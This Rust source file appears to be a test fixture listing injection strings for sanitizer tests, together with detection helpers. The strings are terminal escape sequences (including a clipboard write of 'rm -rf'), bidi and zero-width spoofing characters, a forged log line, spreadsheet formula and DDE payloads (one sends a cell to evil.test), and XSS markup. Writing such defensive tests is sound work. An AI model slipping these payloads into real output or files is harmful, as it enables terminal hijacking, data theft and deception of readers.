//! The attack list: texts that strangers write to steer a terminal, a spreadsheet or a reader, one of each kind.

#![allow(
    dead_code,
    reason = "each crate of tests asks something else of an attack"
)]

/// A text, what is named of it when hidden marks are shown, and whether a spreadsheet would calculate it.
pub struct Attack {
    pub name: &'static str,
    pub raw: String,
    pub named: &'static str,
    pub is_formula: bool,
}

/// Every attack.
pub fn attacks() -> Vec<Attack> {
    let attack = |name, raw: &str, named| Attack {
        name,
        raw: raw.to_owned(),
        named,
        is_formula: false,
    };
    let formula = |name, raw: &str| Attack {
        is_formula: true,
        ..attack(name, raw, "")
    };
    let flood = format!("z{}y", "\u{300}\u{316}\u{34f}".repeat(200));
    vec![
        attack("colours", "a\u{1b}[31mred\u{1b}[0m", "⟨ESC⟩"),
        attack("title", "a\u{1b}]0;owned\u{7}", "⟨BEL⟩"),
        attack("clipboard", "a\u{1b}]52;c;cm0gLXJm\u{1b}\\", "⟨ESC⟩"),
        attack("link", "a\u{1b}]8;;http://evil.test\u{1b}\\x", "⟨ESC⟩"),
        attack("answer back", "a\u{1b}[6n\u{1b}P$qm\u{1b}\\", "⟨ESC⟩"),
        attack("a nul", "a\u{0}b", "⟨NUL⟩"),
        attack("over the line", "good\rbad\u{8}\u{8}", "⟨CR⟩"),
        attack("a line of its own", "a\n[error] job 1 was refunded", "⟨LF⟩"),
        attack("a delete", "ab\u{7f}\u{7f}", "⟨DEL⟩"),
        attack("CSI of C1", "a\u{9b}2Jb", "⟨CSI⟩"),
        attack("OSC of C1", "a\u{9d}0;owned\u{9c}", "⟨OSC⟩"),
        attack("DCS of C1", "a\u{90}q\u{9c}", "⟨DCS⟩"),
        attack("backwards", "a\u{202e}moc.knab\u{202c}", "⟨RLO⟩"),
        attack("isolates", "a\u{2066}b\u{2067}c\u{2068}d\u{2069}", "⟨FSI⟩"),
        attack(
            "embeddings",
            "a\u{202a}b\u{202b}c\u{200e}\u{200f}\u{61c}",
            "⟨ALM⟩",
        ),
        attack(
            "zero width",
            "pay\u{200b}pal\u{200c}\u{200d}\u{2060}",
            "⟨ZWSP⟩",
        ),
        attack("soft hyphens", "pay\u{ad}pal", "⟨SHY⟩"),
        attack("tags", "a\u{e0001}\u{e0068}\u{e0069}\u{e007f}", "⟨U+E0068⟩"),
        attack("hidden selectors", "a\u{e0100}\u{e01ef}", "⟨U+E01EF⟩"),
        attack("fillers", "a\u{3164}\u{115f}\u{ffa0}b", "⟨HF⟩"),
        attack("line separators", "a\u{2028}b\u{2029}c", "⟨U+2028⟩"),
        attack(
            "marks in the middle",
            "a\u{feff}b\u{fff9}c\u{fffb}",
            "⟨BOM⟩",
        ),
        attack("a heap of marks", &flood, "⟨U+0316⟩"),
        formula("a formula", "=HYPERLINK(\"http://evil.test?\"&A1,\"x\")"),
        formula("a command", "+cmd|' /C calc'!A0"),
        formula("a sum", "@SUM(1+1)*cmd|' /C calc'!A0"),
        formula("a minus", "-2+3"),
        formula("a wide formula", "＝1+1"),
        formula("a hidden formula", "\u{200b}\u{a0}=1+1"),
        formula("a formula behind an apostrophe", "'=1+1"),
        formula("a formula on a line of its own", "\n=1+1"),
        attack("cells", "a\",=1+1\n\"b", "⟨LF⟩"),
        attack(
            "markup",
            "<script>alert(1)</script> [x](javascript:alert(1)) | &amp;",
            "",
        ),
    ]
}

/// Whether a character steers a terminal, or what is read.
pub fn steers(c: char) -> bool {
    c.is_control()
        || matches!(
            c,
            '\u{ad}' | '\u{34f}' | '\u{61c}' | '\u{115f}' | '\u{3164}' | '\u{ffa0}'
        )
        || matches!(c, '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}')
        || matches!(c, '\u{feff}' | '\u{fff9}'..='\u{fffb}' | '\u{e0000}'..='\u{e0fff}')
}

/// Whether marks are heaped on a letter.
pub fn is_heaped(text: &str) -> bool {
    let mut marks = 0;
    text.chars().any(|c| {
        marks = if ('\u{300}'..='\u{36f}').contains(&c) {
            marks + 1
        } else {
            0
        };
        marks > 4
    })
}
